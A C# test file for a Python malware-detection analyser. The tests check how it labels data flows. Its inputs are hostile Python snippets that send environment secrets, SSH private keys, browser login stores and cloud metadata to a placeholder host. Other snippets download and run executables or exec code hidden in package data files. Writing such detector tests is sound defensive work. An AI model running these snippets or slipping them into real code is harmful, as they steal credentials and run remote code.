using global::Assay.Python.Meaning;

namespace Assay.Tests.Python.Meaning;

/// <summary>Where values and labels go.</summary>
public sealed class FlowTests
{
    private const string Import = "import os, requests, socket, sys, subprocess, urllib.request, shutil, tempfile\nfrom pathlib import Path\n";

    [Theory]
    [InlineData("requests.post('h', data=dict(os.environ))", "Import requests.post('h', data={, …} {Environment})")]
    [InlineData("requests.post('h', data=os.environ['API_TOKEN'])", "Import requests.post('h', data=? {EnvironmentSecret})")]
    [InlineData("requests.post('h', data=os.getenv('API_TOKEN'))", "Import requests.post('h', data=? {EnvironmentSecret})")]
    [InlineData("requests.post('h', data=os.environ.get('LANG'))", "Import requests.post('h', data=?)")]
    [InlineData("requests.post('h', data={k: v for k, v in os.environ.items()})", "Import requests.post('h', data={os.environ.items()[][]: os.environ.items()[][], …} {Environment})")]
    [InlineData("k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('h', data=k)", "Import requests.post('h', data=builtins.open().read() {File, SecretFile})")]
    [InlineData("with open(Path.home() / '.ssh' / 'id_rsa') as f: requests.post('h', files={'f': f})", "Import requests.post('h', files={'f': builtins.open()} {File, SecretFile})")]
    [InlineData("requests.post('h', data=(Path.home() / '.ssh/id_rsa').read_text())", "Import requests.post('h', data=? {File, SecretFile})")]
    [InlineData("p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Login Data')\nshutil.copy(p, 'c')\nrequests.post('h', data=open('c').read())", "Import requests.post('h', data=builtins.open().read() {File, BrowserStore})")]
    [InlineData("d = []\nfor n in os.environ: d.append(n)\nrequests.post('h', json=d)", "Import requests.post('h', json=[?] {Environment})")]
    [InlineData("d = {}\nd['host'] = socket.gethostname()\nrequests.post('h', json=d)", "Import requests.post('h', json={'host': socket.gethostname()} {HostInfo})")]
    [InlineData("requests.post(f'h/{socket.gethostname()}')", "Import requests.post('h/*' {HostInfo})")]
    [InlineData("requests.post('h/' + socket.gethostname() + '/x')", "Import requests.post('h/*/x' {HostInfo})")]
    [InlineData("requests.post('h/%s' % socket.gethostname())", "Import requests.post('h/*' {HostInfo})")]
    [InlineData("requests.post('h/{}'.format(socket.gethostname()))", "Import requests.post('h/*' {HostInfo})")]
    [InlineData("class C:\n  def __init__(self, t): self.t = t\n  def go(self): requests.post('h', data=self.t)\nC(os.environ['API_TOKEN']).go()", "Import requests.post('h', data=? {EnvironmentSecret})")]
    [InlineData("def f(x): return [x]\nrequests.post('h', data=f(os.popen('id').read()))", "Import requests.post('h', data=[os.popen().read()] {ProcessOutput})")]
    [InlineData("r = requests.get('http://169.254.169.254/latest')\nrequests.post('h', data=r.text)", "Import requests.post('h', data=requests.get().text {Downloaded, CloudIdentity})")]
    [InlineData("os.system(requests.get('u').text)", "Import os.system(requests.get().text {Downloaded})")]
    [InlineData("s = socket.socket()\nos.system(s.recv(1024).decode())", "Import os.system(socket.socket().recv().decode() {Received})")]
    public void Labels_reach_the_call(string text, string seen) => Assert.Contains(seen, Seen.In(Import + text));

    [Theory]
    [InlineData("def f(private_key): requests.post('h', json={'k': private_key})", "Call requests.post('h', json={'k': ?} {KeyMaterial})")]
    [InlineData("def f(a): requests.post('h', json=a.private_key)", "Call requests.post('h', json=?.private_key {KeyMaterial})")]
    [InlineData("def f(a): requests.post('h', json=a['mnemonic'])", "Call requests.post('h', json=? {KeyMaterial})")]
    [InlineData("class W:\n  def __init__(self, private_key): self.k = private_key\n  def go(self): requests.post('h', json=self.k)", "Call requests.post('h', json=? {KeyMaterial})")]
    [InlineData("def f(private_key):\n  requests.post('h', json=private_key)\nf('test')", "Import requests.post('h', json='test' {KeyMaterial})")]
    public void A_name_that_says_what_it_holds_labels_it(string text, string seen) => Assert.Contains(seen, Seen.In(Import + text));

    [Theory]
    [InlineData("urllib.request.urlretrieve('http://192.0.2.1/x.exe', 'x.exe')\nos.startfile('x.exe')", "Import os.startfile('x.exe' {Downloaded, Written})")]
    [InlineData("open('run.exe', 'wb').write(requests.get('u').content)\nos.system('start run.exe')", "Import os.system('start run.exe' {Downloaded, Written})")]
    [InlineData("p = os.path.join(tempfile.gettempdir(), 'a.exe')\nwith open(p, 'wb') as f: f.write(requests.get('u').content)\nsubprocess.Popen([p])", "Import subprocess.Popen(['*/a.exe'] {Downloaded, Written})")]
    [InlineData("p = Path('a.bin')\np.write_text(requests.get('u').text)\nsubprocess.run(str(p))", "Import subprocess.run('a.bin' {Downloaded, Written})")]
    [InlineData("t = tempfile.NamedTemporaryFile(delete=False)\nt.write(requests.get('u').content)\nos.startfile(t.name)", "Import os.startfile(builtins.open().name {Downloaded, Written})")]
    [InlineData("open('a', 'wb').write(requests.get('u').content)\nshutil.copy('a', 'b.exe')\nos.startfile('b.exe')", "Import os.startfile('b.exe' {File, Downloaded, Written})")]
    public void A_path_carries_what_was_written_there(string text, string seen) => Assert.Contains(seen, Seen.In(Import + text));

    [Theory]
    [InlineData("with open('/tmp/r.py', 'w') as f: f.write(\"import os\\nos.system('x')\")\nsubprocess.Popen(['python3', '/tmp/r.py'])")]
    [InlineData("open('r.py', 'w').write(\"import os\\nos.system('x')\")\nos.system('python r.py')")]
    [InlineData("Path('r.py').write_text(\"import os\\nos.system('x')\")\nsubprocess.run([sys.executable, str(Path('r.py'))])")]
    [InlineData("f = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\nf.write(b\"import os\\nos.system('x')\")\nf.close()\nsubprocess.Popen([sys.executable, f.name])")]
    [InlineData("open('r.txt', 'w').write(\"import os\\nos.system('x')\")\nexec(open('r.txt').read())")]
    public void Program_text_that_is_written_and_started_is_read(string text) => Assert.Contains("Import os.system('x')", Seen.In(Import + text));

    [Theory]
    [InlineData("exec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())")]
    [InlineData("exec((Path(__file__).parent / 'data.txt').read_text())")]
    [InlineData("exec(Path(__file__).with_name('data.txt').read_bytes().decode())")]
    [InlineData("import pkgutil\nexec(pkgutil.get_data(__name__, 'data.txt'))")]
    [InlineData("import importlib.resources as r\nexec(r.files('demo').joinpath('data.txt').read_text())")]
    [InlineData("import importlib.resources as r\nexec((r.files(__package__) / 'data.txt').read_text())")]
    [InlineData("import pkg_resources\nexec(pkg_resources.resource_string('demo', 'data.txt'))")]
    [InlineData("with open(os.path.abspath(__file__)[:-11] + 'data.txt') as f: exec(f.read())")]
    [InlineData("import json\nexec(json.load(open(os.path.dirname(__file__) + '/data.json'))['code'])")]
    [InlineData("for line in open(os.path.dirname(__file__) + '/data.txt'): exec(line)")]
    public void A_data_file_of_the_distribution_is_read(string text)
    {
        ProgramReading reading = Seen.Read(
            ("demo/__init__.py", Import + text), ("demo/data.txt", "import os; os.system('x')"), ("demo/data.json", "{\"code\": \"import os; os.system('x')\"}"));
        Assert.Contains("Import os.system('x')", Seen.Lines(reading));
        Assert.Contains(reading.Layers, static layer => layer.Labels.HasFlag(Labels.PackageData));
    }

    [Fact]
    public void A_function_put_in_the_place_of_anothers_gets_what_others_pass()
    {
        string[] seen = Seen.In(Import + "def wrap(self, *a, **k): requests.post('h', data=k)\nrequests.Session.request = wrap");
        Assert.Contains("Import patch requests.Session.request(<demo.wrap>)", seen);
        Assert.Contains("Import requests.post('h', data={, …} {CallerArguments})", seen);
        Assert.Contains("Import patch builtins.open(<demo.f>)", Seen.In("import builtins\ndef f(p): pass\nbuiltins.open = f"));
        Assert.Contains("Import patch requests.get(<demo.f>)", Seen.In("import requests\ndef f(p): pass\nsetattr(requests, 'get', f)"));
    }

    [Fact]
    public void Both_sides_of_a_test_that_is_not_known_count()
    {
        Assert.Equal(["Import os.system('a')", "Import os.system('b')"], Seen.In("import os\nif unknown(): c = 'a'\nelse: c = 'b'\nos.system(c)"));
        Assert.Equal(["Import os.system('a')", "Import os.system('b')"], Seen.In("import os\nc = 'a' if unknown() else 'b'\nos.system(c)"));
        Assert.Equal(["Import os.system('b')", "Import os.system('a')"], Seen.In("import os\nc = 'a'\nif unknown(): c = 'b'\nos.system(c)"));
        Assert.Equal(["Import os.system('b')"], Seen.In("import os\nc = 'a'\nif True: c = 'b'\nos.system(c)"));
    }

    [Fact]
    public void Calls_with_other_arguments_are_kept_apart_and_the_same_once()
    {
        Assert.Equal(["Import os.system('a')", "Import os.system('b')"], Seen.In("import os\ndef f(c): os.system(c)\nf('a')\nf('b')\nf('a')"));
        Assert.Equal(["Import os.system('a')"], Seen.In("import os\ndef f(c): os.system(c)\nf(unknown())\nf('a')"));
    }

    [Fact]
    public void Attributes_of_another_module_are_followed()
    {
        Assert.Contains("Import os.system('x')", Seen.In([("demo/__init__.py", "from ._c import D\nexec(D)"), ("demo/_c.py", "D = \"import os; os.system('x')\"")]));
        Assert.Contains("Import os.system('x')", Seen.In([("demo/__init__.py", "from ._c import *\nexec(D)"), ("demo/_c.py", "D = \"import os; os.system('x')\"")]));
        Assert.Contains("Import os.system('x')", Seen.In([("demo/__init__.py", "import demo._c\ndemo._c.go()"), ("demo/_c.py", "from os import *\ndef go(): system('x')")]));
        Assert.Contains("Import os.system('x')", Seen.In([("demo/__init__.py", "from . import a"), ("demo/a.py", "from .b import run\nrun('x')"), ("demo/b.py", "from os import system as run")]));
    }
}
